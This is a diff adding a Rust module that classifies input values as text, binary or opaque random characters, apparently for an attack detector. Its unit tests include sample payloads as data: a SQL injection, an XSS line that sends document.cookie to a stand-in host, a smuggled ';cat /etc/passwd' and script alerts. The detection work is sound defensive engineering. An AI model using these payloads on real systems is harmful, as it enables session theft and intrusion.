@@ -1,0 +1,95 @@
+//! The texture of a value: text, binary data, or opaque characters that no interpreter reads.
+
+/// Shorter values are no texts that quote something.
+const MIN_TEXT_BYTES: usize = 60;
+const MIN_TEXT_WORDS: usize = 10;
+/// Shorter values may hold odd bytes as a disguise.
+const MIN_BINARY_BYTES: usize = 64;
+/// Shorter values have too few characters to tell random ones from code.
+const MIN_OPAQUE_BYTES: usize = 48;
+/// Kinds of punctuation in an opaque value: code and markup use fewer.
+const MIN_OPAQUE_MARKS: u32 = 14;
+/// Letters in a row that count as a word.
+const MIN_WORD: usize = 4;
+
+/// Some words and not only a payload.
+pub(super) fn is_text(value: &[u8]) -> bool {
+    let is_word = |word: &&[u8]| word.iter().any(|byte| byte.is_ascii_alphabetic() || !byte.is_ascii());
+    value.len() >= MIN_TEXT_BYTES
+        && value.split(u8::is_ascii_whitespace).filter(is_word).nth(MIN_TEXT_WORDS - 1).is_some()
+}
+
+/// Whether one byte in ten is no text.
+pub(super) fn is_binary(value: &[u8]) -> bool {
+    if value.len() < MIN_BINARY_BYTES {
+        return false;
+    }
+    let controls = value.iter().filter(|&&it| it < b' ' && !matches!(it, b'\t' | b'\r' | b'\n')).count();
+    let invalid: usize = value.utf8_chunks().map(|chunk| chunk.invalid().len()).sum();
+    10 * (controls + invalid) > value.len()
+}
+
+/// Whether the characters of a value look random, those of the match included: signatures,
+/// encrypted texts, sensor data. An attack in random padding has words.
+pub(super) fn is_opaque(value: &[u8], matched: &[u8]) -> bool {
+    value.len() >= MIN_OPAQUE_BYTES
+        && marks(value) >= MIN_OPAQUE_MARKS
+        && 8 * in_words(value) < value.len()
+        && 5 * in_words(matched) <= matched.len()
+}
+
+/// The number of different punctuation characters.
+fn marks(value: &[u8]) -> u32 {
+    let marks = value.iter().filter(|byte| byte.is_ascii_punctuation());
+    marks.fold(0_u128, |seen, byte| seen | 1 << byte).count_ones()
+}
+
+/// The number of bytes in words: letters of one case, the first of any case.
+fn in_words(value: &[u8]) -> usize {
+    let mut count = 0;
+    for run in value.split(|byte| !byte.is_ascii_alphabetic()).filter(|run| run.len() >= MIN_WORD) {
+        let rest = &run[1..];
+        if rest.iter().all(u8::is_ascii_lowercase) || run.iter().all(u8::is_ascii_uppercase) {
+            count += run.len();
+        }
+    }
+    count
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn random_characters_are_opaque() {
+        let value = br#"2.0_Jk/v+8tX=aYo|T%Q{#z"k'l;b>Q1&u@w(9)xG!r?m$Zp,4^"#;
+        assert!(is_opaque(value, b"'l;b"));
+        assert!(!is_opaque(&value[..30], b"'l;b"));
+    }
+
+    #[test]
+    fn attacks_and_code_are_not_opaque() {
+        for value in [
+            "' union select 1,2,3,concat(user(),0x3a,database()),5 from users-- -",
+            "<img src=x onerror=\"fetch('//a.example/?'+document.cookie)\">; {[(!@#$%^&*)]}",
+            "for (const [k, v] of Object.entries(x)) { if (k !== 'a' && v > 3) y[k] += `${v}`; }",
+        ] {
+            assert!(!is_opaque(value.as_bytes(), b"x"), "{value}");
+        }
+        let value = br#"2.0_Jk/v+8tX=aYo|T%Q{#z"k'l;b>Q1&u@w(9)xG!r?m$Zp,4^ ;cat /etc/passwd"#;
+        assert!(!is_opaque(value, b";cat /etc/passwd"));
+    }
+
+    #[test]
+    fn bytes_that_are_no_text_are_binary() {
+        assert!(is_binary(&[b"PK\x03\x04".as_slice(), &[0x80; 80]].concat()));
+        assert!(!is_binary("Grüße aus Köln, \u{6771}\u{4eac}\n".repeat(4).as_bytes()));
+        assert!(!is_binary(b"\x00' or 1=1"));
+    }
+
+    #[test]
+    fn a_text_has_words() {
+        assert!(is_text(b"The quick brown fox jumps over the lazy dog, again and again, all day long."));
+        assert!(!is_text(b"<script>alert(document.cookie)</script><script>alert(document.cookie)</script>"));
+    }
+}
